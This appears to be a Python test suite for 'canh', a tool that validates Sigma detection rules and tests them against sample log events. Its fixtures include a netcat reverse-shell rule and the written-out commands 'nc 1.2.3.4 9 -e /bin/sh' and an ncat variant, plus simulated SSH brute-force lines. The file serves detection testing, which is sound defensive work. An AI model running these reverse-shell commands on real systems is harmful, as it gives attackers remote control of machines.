#!/usr/bin/env python3
"""canh logtest and canh rules check, offline: the real binary on files.

- rules check: per-rule lines, the summary and exit 1 on the error file of
  tests/data/sigma; exit 0 and all rules loaded on the public SigmaHQ Linux
  rules when ../shared/bench-data is present; --json lines.
- logtest --format json: alerts as JSON lines with the rule, the event and
  the input line number; a correlation with its contributing events;
  --explain on stderr; --logsource routing.
- logtest on syslog lines through the decoders, and on a whole pretty-printed
  Windows event file.
"""

import json
import os

from canhtest import CLI, SOURCE, CanhTestCase, Workspace, main, run

DATA = os.path.join(SOURCE, "tests", "data", "sigma")
PUBLIC = os.path.join(SOURCE, "..", "shared", "bench-data", "sigma-linux", "rules", "linux")

RULES = """\
title: netcat reverse shell
id: t-nc
logsource: {product: linux, category: process_creation}
detection:
  sel:
    Image|endswith: /nc
    CommandLine|contains|all: [' -e ', /bin/sh]
  condition: sel
level: high
---
title: ssh failure
id: t-fail
name: t_fail
logsource: {product: linux, service: sshd}
detection:
  sel:
    - Message|contains: 'Failed password'
    - Action: ssh_login_failed
  condition: sel
---
title: ssh brute force
id: t-brute
correlation:
  type: event_count
  rules: [t_fail]
  group-by: [SourceIp]
  timespan: 1m
  condition: {gte: 3}
level: high
"""


class LogtestTest(CanhTestCase):
    def setUp(self):
        if not os.access(CLI, os.X_OK):
            self.fail("%s is not built" % CLI)
        self.ws = Workspace(self.id().split(".")[-1])

    def canh(self, *args):
        return run([CLI, "--lang", "en"] + list(args), ws=self.ws, label="canh")

    def write(self, name, text):
        path = os.path.join(self.ws.dir, name)
        with open(path, "w", encoding="utf-8") as f:
            f.write(text)
        return path

    def test_rules_check_errors(self):
        r = self.canh("rules", "check", os.path.join(DATA, "errors.rules.yml"))
        self.assertEqual(r.rc, 1, r)
        self.assertIn("ok       ", r.out)
        self.assertRegex(r.out, r"error +\S+errors\.rules\.yml:28:14 +e-undefined")
        self.assertRegex(r.out, r"skipped +\S+ +e-unknown-mod .*frobnicate")
        self.assertRegex(r.out, r"errors\.rules\.yml:78:1 ")
        self.assertIn("11 rules: 2 loaded, 4 skipped, 5 errors", r.out)
        j = self.canh("--json", "rules", "check", os.path.join(DATA, "errors.rules.yml"))
        lines = [json.loads(x) for x in j.out.splitlines()]
        self.assertEqual(lines[-1]["summary"]["errors"], 5)
        undefined = [x for x in lines if x.get("id") == "e-undefined"][0]
        self.assertEqual((undefined["status"], undefined["line"], undefined["column"]),
                         ("error", 28, 14))
        ok = self.canh("rules", "check", "--quiet", "--expand", "admins=root,administrator",
                       os.path.join(DATA, "modifiers.rules.yml"))
        self.assertEqual(ok.rc, 0, ok)
        self.assertNotIn("ok       ", ok.out)
        self.assertIn("loaded, 0 skipped, 0 errors", ok.out)

    def test_rules_check_public(self):
        if not os.path.isdir(PUBLIC):
            self.skipTest("%s not present" % PUBLIC)
        r = self.canh("rules", "check", "--quiet", PUBLIC)
        self.assertEqual(r.rc, 0, r)
        self.assertIn("210 rules: 210 loaded, 0 skipped, 0 errors", r.out)

    def test_logtest_json(self):
        rules = self.write("rules.yml", RULES)
        events = [
            {"Image": "/usr/bin/nc", "CommandLine": "nc 1.2.3.4 9 -e /bin/sh",
             "_logsource": {"product": "linux", "category": "process_creation"}},
            {"Image": "/usr/bin/nc", "CommandLine": "nc 1.2.3.4 9 -e /bin/sh"},
            {"Image": "/usr/bin/ncat", "CommandLine": "ncat 1.2.3.4 9 -e /bin/sh",
             "_logsource": {"product": "linux", "category": "process_creation"}},
        ]
        for i in range(3):
            events.append({"_time": 1000 + i * 1000, "Action": "ssh_login_failed",
                           "SourceIp": "203.0.113.9", "User": "u%d" % i,
                           "_logsource": {"product": "linux", "service": "sshd"}})
        path = self.write("events.jsonl", "".join(json.dumps(e) + "\n" for e in events))
        r = self.canh("logtest", "--rules", rules, "--format", "json", path)
        self.assertEqual(r.rc, 0, r)
        alerts = [json.loads(x) for x in r.out.splitlines()]
        self.assertEqual([(a["rule"]["id"], a["line"]) for a in alerts],
                         [("t-nc", 1), ("t-brute", 6)], r.out)
        self.assertEqual(alerts[0]["event"]["fields"]["Image"], "/usr/bin/nc")
        self.assertEqual(alerts[0]["rule"]["level"], "high")
        corr = alerts[1]["correlation"]
        self.assertEqual((corr["type"], corr["group"], corr["value"]),
                         ("event_count", "SourceIp=203.0.113.9", 3))
        self.assertEqual(len(corr["events"]), 3)
        # --logsource gives every event the process_creation logsource: line 2 alerts too
        r = self.canh("logtest", "--rules", rules, "--format", "json", "--logsource",
                      "product:linux,category:process_creation", "--explain", path)
        self.assertEqual(r.rc, 0, r)
        ids = [(json.loads(x)["rule"]["id"], json.loads(x)["line"]) for x in r.out.splitlines()]
        self.assertIn(("t-nc", 2), ids)
        explained = [json.loads(x) for x in r.err.splitlines() if x.startswith("{")]
        self.assertEqual(len(explained), 6)
        self.assertEqual(explained[0]["tried"], ["t-nc"])
        self.assertEqual(explained[2]["tried"], ["t-nc"])  # ncat: prefilter hit, no match
        bad = self.canh("logtest", "--rules", rules, "--logsource", "planet:mars", path)
        self.assertEqual(bad.rc, 2, bad)

    def test_logtest_syslog(self):
        rules = self.write("rules.yml", RULES)
        log = self.write("auth.log", "".join(
            "Nov 21 10:00:%02d srv001 sshd[%d]: Failed password for invalid user admin "
            "from 198.51.100.7 port %d ssh2\n" % (i, 100 + i, 40000 + i) for i in range(3)))
        r = self.canh("logtest", "--rules", rules, "--format", "syslog", "--stats", log)
        self.assertEqual(r.rc, 0, r)
        alerts = [json.loads(x) for x in r.out.splitlines()]
        self.assertEqual([a["rule"]["id"] for a in alerts], ["t-brute"], r.out)
        self.assertEqual(alerts[0]["correlation"]["group"], "SourceIp=198.51.100.7")
        self.assertEqual(alerts[0]["event"]["host"], "srv001")
        self.assertRegex(r.err, r"lines 3, events 3, alerts 1")
        missing = self.canh("logtest", "--rules", rules, os.path.join(self.ws.dir, "nope.log"))
        self.assertEqual(missing.rc, 1, missing)
        self.assertIn("nope.log", missing.err)

    def test_logtest_windows_whole_file(self):
        rules = self.write("w.yml", "title: whoami\nid: w1\nlogsource: {product: windows, "
                           "category: process_creation}\ndetection:\n  sel:\n"
                           "    CommandLine|contains: whoami\n  condition: sel\n")
        event = {"Event": {
            "System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
                       "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
                       "Computer": "WS01",
                       "TimeCreated": {"#attributes": {"SystemTime": "2026-11-21T10:00:00Z"}}},
            "EventData": {"Image": "C:\\Windows\\System32\\cmd.exe",
                          "CommandLine": "cmd.exe /c whoami"}}}
        path = self.write("event.json", json.dumps(event, indent=2))
        r = self.canh("logtest", "--rules", rules, "--format", "windows-json", path)
        self.assertEqual(r.rc, 0, r)
        alerts = [json.loads(x) for x in r.out.splitlines()]
        self.assertEqual([a["rule"]["id"] for a in alerts], ["w1"], r.out)
        self.assertEqual(alerts[0]["event"]["host"], "WS01")


if __name__ == "__main__":
    main()
